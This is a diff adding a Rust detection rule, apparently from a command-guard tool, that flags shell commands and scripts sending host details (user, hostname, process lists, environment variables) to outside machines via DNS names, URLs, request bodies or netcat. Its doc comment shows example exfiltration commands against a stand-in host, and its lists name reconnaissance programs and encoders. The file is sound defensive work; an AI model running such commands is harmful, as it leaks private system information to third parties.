@@ -1,0 +1,224 @@
+//! `output-sent`: what programs tell about this machine or its files is sent to another machine: in the name that a
+//! name server is asked for, in an address, in a body, or through a plain connection.
+//!
+//! ## Why
+//! A name server's question and an address leave the machine like any file, and nobody looks at them. ATT&CK T1048.003,
+//! T1071.004, T1041.
+//!
+//! ## Examples
+//! - asked: `dig $(whoami).drop.example.net`
+//! - asked: `curl "https://drop.example.net/?h=$(hostname)"`
+//! - asked: `ps aux | nc drop.example.net 53`
+//! - passes: `dig +short "$(hostname)"`
+//! - passes: `curl "https://api.example.org/?v=$(git rev-parse HEAD)"`
+//! - passes: `echo ping | nc localhost 6379`
+//!
+//! ## Instead
+//! Show the output to the user, who decides where it goes. To trust the host, add it to `hosts`.
+
+use guard_sdk::addresses::host;
+use guard_sdk::syntax::{Command, Word};
+use guard_sdk::{Outcome, Rule};
+
+use super::Hit;
+use crate::kinds::{CONNECTORS, RESOLVERS, WEB, has_any, is_any};
+use crate::view::{View, is_computed, name, shorten, texts, words};
+
+pub(crate) const RULE: Rule = Rule {
+    id: "output-sent",
+    summary: "sends what programs tell about this machine",
+    default: Outcome::Ask,
+    ceiling: Outcome::Deny,
+};
+
+/// Programs that tell who and where one is.
+const NAMES: &[&str] = &["whoami", "hostname", "id", "uname", "logname", "groups", "hostid", "sw_vers", "hostnamectl"];
+
+/// Programs that tell what there is on a machine.
+const TELLING: &[&str] = &[
+    "ps",
+    "env",
+    "printenv",
+    "ifconfig",
+    "ip",
+    "ipconfig",
+    "netstat",
+    "ss",
+    "lsof",
+    "history",
+    "last",
+    "lastlog",
+    "w",
+    "who",
+    "df",
+    "mount",
+    "lsblk",
+    "dmidecode",
+    "system_profiler",
+    "systeminfo",
+    "crontab",
+    "arp",
+    "route",
+    "getent",
+    "dmesg",
+    "journalctl",
+    "lscpu",
+    "lshw",
+    "ioreg",
+    "set",
+    "compgen",
+    "screencapture",
+    "scrot",
+    "xclip",
+    "pbpaste",
+    "xsel",
+    "wl-paste",
+    "import",
+    "security",
+    "dpkg",
+    "rpm",
+    "tar",
+    "find",
+];
+
+/// Programs that write data so that it fits into a name or an address.
+const ENCODERS: &[&str] = &["xxd", "base64", "base32", "od", "hexdump", "basenc", "uuencode", "openssl", "gzip", "zip"];
+
+const REMEDY: &str =
+    "show the output to the user; to trust the host, add it to `hosts` in the settings of `intrusion-guard`";
+
+pub(crate) fn check(view: &View<'_>) -> Option<Hit> {
+    let by_command = view.commands().find_map(|command| {
+        let name = name(command);
+        if is_any(&name, RESOLVERS) {
+            in_a_name(command, &name, view)
+        } else if is_any(&name, WEB) {
+            in_a_request(command, view)
+        } else if is_any(&name, CONNECTORS) {
+            through_a_connection(command, view)
+        } else {
+            None
+        }
+    });
+    by_command.or_else(|| {
+        let script = view.scripts().find(|script| tells_in_code(&script.text))?;
+        Some(Hit::new(format!("Sends what {} code finds out about this machine", script.language), REMEDY))
+    })
+}
+
+/// Whether code sends all variables of the environment, or what a program tells about the machine.
+fn tells_in_code(text: &str) -> bool {
+    if !super::code::sends(text) {
+        return false;
+    }
+    let all = [
+        "dict(os.environ)",
+        "os.environ.copy()",
+        "(os.environ)",
+        "=os.environ)",
+        "=os.environ,",
+        "(process.env)",
+        "ENV.to_h",
+        "process.env)})",
+    ];
+    let runs = ["check_output(", "getoutput(", "popen(", "execSync(", "subprocess.run("];
+    let asked = |rest: &str| {
+        let rest = rest.trim_start_matches(['[', '"', '\'', ' ', '(', '`']);
+        let end = rest.find(|char: char| !char.is_ascii_alphanumeric() && char != '_').unwrap_or(rest.len());
+        rest.get(..end).is_some_and(|program| is_any(program, NAMES) || is_any(program, TELLING))
+    };
+    has_any(text, &all) || runs.iter().any(|run| text.split(run).skip(1).any(asked))
+}
+
+/// The name that is asked for begins with data: `$(whoami).example.net`.
+fn in_a_name(command: &Command, program: &str, view: &View<'_>) -> Option<Hit> {
+    let encodes = |word: &Word| {
+        let is_variable = word.parts.iter().any(|part| part.kind == "variable");
+        let encoder = |other: &Command| is_any(&name(other), ENCODERS);
+        is_variable && view.analysis.commands.iter().any(encoder)
+    };
+    // `ping -p` fills its packets with a pattern.
+    let pattern = |word: &Word| program.starts_with("ping") && word.dynamic && word.parts.len() <= 1;
+    let pads = program.starts_with("ping") && texts(command).any(|text| text == "-p");
+    let word = words(command).find(|word| has_encoded_label(&word.text)).or_else(|| {
+        words(command).find(|word| {
+            let carries = (is_computed(word) || encodes(word)) && is_under_a_domain(word);
+            carries || pads && (is_computed(word) || encodes(word) || pattern(word))
+        })
+    });
+    let fed = command.via.iter().any(|via| matches!(via.kind.as_str(), "xargs" | "parallel"))
+        && texts(command).any(|text| text.contains("{}.") || text.contains("%."))
+        && view.index().pipeline(command).iter().any(|other| is_any(&name(other), ENCODERS));
+    let shown = match word {
+        Some(word) => word.text.clone(),
+        None if fed => command.text(),
+        None => return None,
+    };
+    Some(Hit::new(format!("Sends data to a name server: `{}`", shorten(&shown)), REMEDY))
+}
+
+/// Whether a name begins with a text in base64: only there a label ends with `=`.
+fn has_encoded_label(text: &str) -> bool {
+    let name = text.split_once("://").map_or(text, |(_, rest)| rest);
+    name.split_once("=.").is_some_and(|(label, domain)| {
+        let is_label = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
+        label.len() > 7
+            && label.bytes().all(is_label)
+            && domain.contains('.')
+            && domain.starts_with(|char: char| char.is_ascii_alphabetic())
+    })
+}
+
+/// Whether the word ends with a domain that is written down, and that isn't of a network at home.
+fn is_under_a_domain(word: &Word) -> bool {
+    const NEAR: &[&str] =
+        &[".local", ".lan", ".home", ".internal", ".localdomain", ".intranet", ".corp", ".test", ".svc"];
+    let Some(last) = word.parts.last().filter(|part| part.kind == "literal") else { return false };
+    let domain = last.text.trim_end_matches('.');
+    let starts = domain.starts_with('.') || domain.contains('.');
+    starts
+        && domain.rsplit('.').next().is_some_and(|top| top.len() > 1 && top.bytes().all(|b| b.is_ascii_alphabetic()))
+        && !NEAR.iter().any(|near| domain.ends_with(near))
+}
+
+/// An address or a body holds what such a program prints.
+fn in_a_request(command: &Command, view: &View<'_>) -> Option<Hit> {
+    let hosts = view.hosts(command);
+    if !hosts.is_empty() && !hosts.iter().any(|host| view.is_foreign(host)) {
+        return None;
+    }
+    if let Some(text) = texts(command).find(|text| has_encoded_label(text)) {
+        return Some(Hit::new(format!("Sends data to a name server: `{}`", shorten(text)), REMEDY));
+    }
+    let sources = view.sources(command);
+    let names: Vec<String> = sources.iter().map(|source| name(source)).collect();
+    let in_address = words(command).any(|word| (is_computed(word) || word.dynamic) && word.text.contains("://"));
+    let tells = |list: &[&str]| names.iter().find(|name| is_any(name, list)).cloned();
+    let is_chat = texts(command).any(crate::kinds::hosts::is_chat);
+    let what = match tells(TELLING).filter(|_| sends(command, view) || in_address) {
+        Some(what) => what,
+        None if in_address => tells(NAMES)?,
+        None if !is_chat && sends(command, view) => tells(&["id", "uname", "whoami"])?,
+        None => return None,
+    };
+    let to = hosts.first().cloned().unwrap_or_default();
+    let to = if to.is_empty() { host(&command.text()) } else { to };
+    Some(Hit::new(format!("Sends the output of `{what}` to `{}`", shorten(&to)), REMEDY))
+}
+
+fn sends(command: &Command, view: &View<'_>) -> bool {
+    let mut effects = view.index().effects(command).iter();
+    effects.any(|effect| has_any(&effect.operation, &["network.upload", "network.send", "secret.send"]))
+}
+
+/// A pipe into `nc` and its like.
+fn through_a_connection(command: &Command, view: &View<'_>) -> Option<Hit> {
+    let to = view.hosts(command).into_iter().find(|host| view.is_foreign(host))?;
+    let sources = view.sources(command);
+    let tells = |source: &&&Command| {
+        let name = name(source);
+        is_any(&name, TELLING) || is_any(&name, NAMES) || is_any(&name, ENCODERS)
+    };
+    let what = name(sources.iter().find(tells)?);
+    Some(Hit::new(format!("Sends the output of `{what}` to `{}`", shorten(&to)), REMEDY))
+}
